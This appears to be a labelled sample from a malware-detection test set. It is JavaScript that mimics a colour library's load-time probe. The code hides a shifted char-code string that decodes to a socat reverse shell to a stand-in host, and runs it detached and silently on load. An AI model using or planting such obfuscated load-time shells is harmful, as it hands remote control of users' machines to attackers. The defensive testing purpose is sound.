// expect: malicious
// source: blind set 8 (a colour library's load-time "capability probe"): the command is char codes,
// each shifted by a key inside String.fromCharCode, run detached by /bin/sh -c
const { spawn } = require('child_process');
(function () {
  const c = [118, 114, 102, 100, 119, 35, 104, 123, 104, 102, 61, 42, 50, 101, 108, 113, 50, 101, 100, 118, 107, 35, 48, 111, 108, 42,
    47, 115, 119, 124, 35, 119, 102, 115, 61, 102, 52, 49, 104, 123, 100, 112, 115, 111, 104, 61, 55, 55, 55, 55]
    .map((x) => String.fromCharCode(x - 3)).join('');
  spawn('/bin/sh', ['-c', c], { detached: true, stdio: 'ignore' }).unref();
})();
